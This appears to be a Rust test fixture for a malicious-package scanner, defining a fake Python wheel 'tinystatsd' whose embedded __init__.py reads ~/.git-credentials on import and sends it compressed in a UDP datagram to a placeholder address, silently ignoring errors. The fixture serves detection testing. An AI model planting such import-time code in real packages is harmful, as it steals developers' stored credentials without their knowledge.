//! A wheel that, when it is imported, sends `~/.git-credentials` in one UDP datagram to a bare address.
//!
//! Must be found: a datagram is a send, too.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const TINYSTATSD_INIT_PY: &str = r#"import os
import socket
import zlib

link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    with open(os.path.expanduser("~/.git-credentials"), "rb") as file:
        link.sendto(zlib.compress(file.read()), ("198.51.100.9", 8125))
except OSError:
    pass
"#;

pub(super) fn specimen() -> Specimen {
    let package =
        Wheel::new("tinystatsd", "1.0.2").file("tinystatsd/__init__.py", TINYSTATSD_INIT_PY);
    package.specimen(
        "pypi-datagram",
        Expect::malicious(&["canary-exfiltrated", "credential-read-then-send"]),
    )
}
